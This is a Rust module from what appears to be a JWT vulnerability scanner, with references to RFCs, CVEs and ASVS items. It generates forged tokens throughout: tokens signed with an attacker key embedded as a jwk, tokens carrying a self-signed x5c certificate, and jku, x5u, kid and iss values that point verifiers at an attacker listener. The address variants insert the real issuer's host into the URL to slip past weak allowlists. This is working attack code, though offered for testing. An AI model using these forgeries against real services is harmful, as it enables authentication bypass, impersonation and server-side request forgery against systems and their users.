//! Keys that the token brings along, and addresses where the server shall fetch one.

use serde_json::{Value, json};

use crate::algorithm::{Algorithm, KeyKind};
use crate::attacker;
use crate::base64url;
use crate::forge::{Forged, Input, Maker, Variant};
use crate::jws::{Jws, Members, compact, payload, signing_input};
use crate::listener::{CERTIFICATE, KEYS, KID};
use crate::row::{Acceptance, Family, Group, Row, Severity};

pub(super) const ROWS: &[Row] = &[
    Row {
        id: "jwk-embedded",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &[
            "RFC 7515 section 4.1.3",
            "RFC 8725 section 3.10",
            "ASVS 9.1.3",
            "CVE-2018-0114",
            "CWE-347",
        ],
        explanation: "The header holds the attacker's public key, and the token is signed with it: a server that accepts it trusts \
                      whoever signs.",
        maker: Maker::Jwt(jwk_embedded),
    },
    Row {
        id: "x5c-self-signed",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &[
            "RFC 7515 section 4.1.6",
            "RFC 8725 section 3.10",
            "ASVS 9.1.3",
            "CWE-295",
        ],
        explanation: "The header holds a certificate that the attacker signed himself: a server that accepts it takes the key and \
                      does not validate the chain.",
        maker: Maker::Jwt(x5c),
    },
    Row {
        id: "jku-listener",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &[
            "RFC 7515 section 4.1.2",
            "RFC 8725 section 3.10",
            "rfc8725bis section 2.9",
            "ASVS 9.1.3",
            "CWE-918",
        ],
        explanation: "The header says where the keys are, and that is with us: a server that fetches them asks any address that a \
                      token names, and one that accepts the token trusts the keys too.",
        maker: Maker::Listener(|token, url| addressed(token, "jku", "jku-listener", url)),
    },
    Row {
        id: "x5u-listener",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &[
            "RFC 7515 section 4.1.5",
            "RFC 8725 section 3.10",
            "rfc8725bis section 2.9",
            "ASVS 9.1.3",
            "CWE-918",
        ],
        explanation: "The header says where the certificate is, and that is with us: a server that fetches it asks any address that \
                      a token names, and one that accepts the token trusts the certificate too.",
        maker: Maker::Listener(|token, url| addressed(token, "x5u", "x5u-listener", url)),
    },
    Row {
        id: "kid-listener",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &[
            "RFC 7515 section 4.1.4",
            "RFC 8725 section 3.10",
            "rfc8725bis section 2.9",
            "CWE-918",
        ],
        explanation: "The key id is an address of ours: a server that fetches it asks any address that a token names.",
        maker: Maker::Listener(|token, url| addressed(token, "kid", "kid-listener", url)),
    },
    Row {
        id: "iss-listener",
        family: Family::Jwt,
        group: Group::Full,
        acceptance: Acceptance::Hole(Severity::Critical),
        sources: &["RFC 8725 section 3.8", "RFC 8725 section 3.10", "ASVS 9.1.3", "CWE-918"],
        explanation: "The issuer is an address of ours where a discovery document waits: a server that fetches it looks for keys \
                      wherever a token says, instead of with the issuers that it knows.",
        maker: Maker::Listener(from_own_issuer),
    },
];

/// An algorithm with public keys: the token's own, or RS256 and ES256 for tokens of a shared secret.
fn asymmetric(token: &Jws) -> Vec<Algorithm> {
    match token.algorithm() {
        Some(algorithm) if algorithm.key_kind() != KeyKind::Hmac => vec![algorithm],
        _ => vec![Algorithm::Rs256, Algorithm::Es256],
    }
}

/// The token with more header members, signed by the attacker.
fn signed(algorithm: Algorithm, header: &Members, payload: &str) -> Option<String> {
    let mut header = header.clone();
    header.insert("alg".to_owned(), algorithm.name().into());
    let input = signing_input(&header, payload);
    let signature = attacker::key(algorithm).sign(algorithm, input.as_bytes())?;
    Some(compact(&input, &signature))
}

fn with(token: &Jws, members: &[(&str, Value)]) -> Members {
    let mut header = token.header().clone();
    for (name, value) in members {
        header.insert((*name).to_owned(), value.clone());
    }
    header
}

fn variant(algorithm: Algorithm, label: &str, token: Option<String>) -> Option<Variant> {
    let name = algorithm.name().to_ascii_lowercase();
    let label = if label.is_empty() {
        name
    } else {
        format!("{label}-{name}")
    };
    token.map(|token| Variant::token(label, token))
}

fn jwk_embedded(_: &Input<'_>, token: &Jws) -> Forged {
    let mut algorithms = asymmetric(token);
    // A shared secret can be brought along as well.
    algorithms.extend(
        token
            .algorithm()
            .filter(|algorithm| algorithm.key_kind() == KeyKind::Hmac),
    );
    let kid = token.kid().unwrap_or(KID).to_owned();
    Forged::variants(algorithms.into_iter().filter_map(|algorithm| {
        let header = with(token, &[("jwk", attacker::jwk(algorithm, &kid)), ("kid", json!(kid))]);
        variant(algorithm, "", signed(algorithm, &header, token.payload_segment()))
    }))
}

fn x5c(_: &Input<'_>, token: &Jws) -> Forged {
    let algorithms = match token.algorithm().map(Algorithm::key_kind) {
        Some(KeyKind::RsaPkcs1 | KeyKind::RsaPss) => asymmetric(token),
        Some(KeyKind::Ec) => vec![Algorithm::Es256],
        _ => vec![Algorithm::Rs256, Algorithm::Es256],
    };
    Forged::variants(algorithms.into_iter().filter_map(|algorithm| {
        let chain = json!([base64url::encode_standard(attacker::certificate(algorithm)?)]);
        let header = with(token, &[("x5c", chain)]);
        variant(algorithm, "", signed(algorithm, &header, token.payload_segment()))
    }))
}

/// Plain, and with the issuer's own host where careless patterns look for it.
fn addressed(token: &Jws, member: &str, row: &str, listener: &str) -> Forged {
    let file = if member == "x5u" { CERTIFICATE } else { KEYS };
    let plain = format!("{listener}/{row}/{file}");
    let mut addresses = vec![("plain", plain.clone())];
    if let Some((host, (scheme, rest))) = host_of_issuer(token).zip(listener.split_once("://")) {
        addresses.push(("user-info", format!("{scheme}://{host}@{rest}/{row}/{file}")));
        addresses.push(("path", format!("{listener}/{row}/{host}/{file}")));
    }
    let algorithm = match (member, asymmetric(token)[0]) {
        // The listener has one certificate, for the RSA key.
        ("x5u", algorithm) if attacker::key(Algorithm::Rs256).fits(algorithm) => algorithm,
        ("x5u", _) => Algorithm::Rs256,
        (_, algorithm) => algorithm,
    };
    Forged::variants(addresses.into_iter().filter_map(|(label, address)| {
        let mut header = with(token, &[("kid", KID.into()), (member, address.into())]);
        if member == "x5u" {
            header.shift_remove("kid");
        }
        variant(algorithm, label, signed(algorithm, &header, token.payload_segment()))
    }))
}

fn host_of_issuer(token: &Jws) -> Option<&str> {
    let (_, rest) = token.iss()?.split_once("://")?;
    let host = rest.split(['/', '?', '#', '@', '\\']).next()?;
    (!host.is_empty()).then_some(host)
}

fn from_own_issuer(token: &Jws, listener: &str) -> Forged {
    let algorithm = asymmetric(token)[0];
    let mut claims = token.claims().clone();
    claims.insert("iss".to_owned(), format!("{listener}/iss-listener").into());
    let header = with(token, &[("kid", KID.into())]);
    Forged::variants(variant(algorithm, "", signed(algorithm, &header, &payload(&claims))))
}
